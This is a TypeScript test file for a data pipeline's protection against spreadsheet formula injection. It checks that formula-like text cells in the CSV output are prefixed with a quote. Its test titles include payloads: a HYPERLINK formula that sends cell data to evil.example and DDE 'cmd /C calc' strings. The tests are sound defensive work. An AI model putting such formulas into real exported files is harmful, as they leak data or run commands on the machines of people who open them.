// Spreadsheet formula injection (OWASP "CSV Injection"): a text cell starting with = + - @,
// a tab or a carriage return gets a leading single quote in CSV; JSON keeps the raw text.
import { mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { neutraliseFormula, toCsv } from '../../pipeline/csv.ts';
import { runPipeline } from '../../pipeline/run.ts';

/** RFC 4180 reader, enough for the files the pipeline writes (quoted cells, CRLF rows). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(cell), (cell = '');
    else if (c === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else cell += c;
  }
  if (cell !== '' || row.length > 0) row.push(cell), rows.push(row);
  return rows;
}

const TITLES = ['=HYPERLINK("http://evil.example/?"&A1,"Click for details")', '+44 20 7946 0000', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0'];
const BODY = 'The South West London ICS will deploy the new electronic patient record by March 2025.';

let tmp: string;
beforeAll(async () => {
  tmp = await mkdtemp(path.join(os.tmpdir(), 'csv-injection-'));
  const lines = TITLES.map((title, i) => JSON.stringify({ id: `inject-${i}`, title, text: `${title}\n\n${BODY} ${title} was in the news.` }));
  await writeFile(path.join(tmp, 'feed.jsonl'), lines.join('\n') + '\n');
  const r = await runPipeline({ paths: [path.join(tmp, 'feed.jsonl')], outDir: path.join(tmp, 'out'), published: '2024-06-01', concurrency: 1, cache: false, cacheDir: path.join(tmp, 'cache'), timings: false });
  expect(r.manifest.totals.ok).toBe(TITLES.length);
});
afterAll(async () => {
  await rm(tmp, { recursive: true, force: true });
});

describe('neutraliseFormula', () => {
  it.each(['=1+1', '+1', '-1', '@A1', '\t=1', '\r=1'])('quotes %j', (s) => {
    expect(neutraliseFormula(s)).toBe(`'${s}`);
  });
  it.each(['NHS', '1+1', ' =1', "'=1", ''])('leaves %j as it is', (s) => {
    expect(neutraliseFormula(s)).toBe(s);
  });
  it('applies to text cells of every table but not to numbers', () => {
    const csv = toCsv('metrics', [{ article: '=a', text: '\tx', value: -5, unit: 'count', noun: '\rcr', qualifier: null, per: null, span_start: 0, span_end: 1, sentence: 0 }], false);
    const [row] = parseCsv(csv);
    expect(row).toContain("'=a");
    expect(row).toContain("'\tx");
    expect(row).toContain("'\rcr");
    expect(row).toContain('-5');
  });
});

describe('a run over articles whose text looks like formulas', () => {
  it('writes every title quoted in articles.csv', async () => {
    const rows = parseCsv((await readFile(path.join(tmp, 'out', 'csv', 'articles.csv'), 'utf8')).replace(/^\uFEFF/, ''));
    const col = rows[0]!.indexOf('title');
    expect(rows.slice(1).map((r) => r[col])).toEqual(TITLES.map((t) => `'${t}`));
  });
  it('leaves no text cell in any CSV that a spreadsheet would run', async () => {
    const dir = path.join(tmp, 'out', 'csv');
    for (const name of await readdir(dir)) {
      const rows = parseCsv((await readFile(path.join(dir, name), 'utf8')).replace(/^\uFEFF/, ''));
      for (const row of rows) for (const cell of row) if (/^[=+\-@\t\r]/.test(cell)) expect(cell, `${name}: ${cell}`).toMatch(/^-\d+(\.\d+)?$/);
    }
  });
  it('keeps the raw text in JSON', async () => {
    const json = JSON.parse(await readFile(path.join(tmp, 'out', 'json', 'inject-0.json'), 'utf8'));
    expect(json.article.title).toBe(TITLES[0]);
  });
});
